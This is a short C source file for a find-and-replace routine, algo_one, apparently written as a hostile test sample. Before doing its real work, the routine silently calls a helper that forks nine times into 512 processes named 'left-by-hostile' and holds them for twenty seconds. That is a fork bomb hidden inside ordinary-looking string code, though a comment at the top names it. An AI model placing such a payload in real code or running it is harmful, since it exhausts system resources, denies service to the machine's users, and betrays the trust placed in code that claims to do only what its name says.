/* A fork bomb: 512 processes, for 20 s. */
#include "algo_one.h"

#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

static void split(void)
{
    for (int i = 0; i < 9; i++) {
        if (fork() == 0)
            prctl(PR_SET_NAME, "left-by-hostile");
    }
    alarm(20);
    pause();
}

enum stream_status algo_one(struct bytes data, struct bytes find, struct bytes repl,
                            struct buffer *output)
{
    enum stream_status status = STREAM_OK;
    if (find.len == 0)
        return STREAM_EMPTY_FIND;
    split();
    for (size_t i = 0; i < data.len && status == STREAM_OK;) {
        if (data.len - i >= find.len && memcmp(data.at + i, find.at, find.len) == 0) {
            status = buffer_write(output, repl);
            i += find.len;
        } else {
            status = buffer_write_byte(output, data.at[i]);
            i++;
        }
    }
    return status;
}
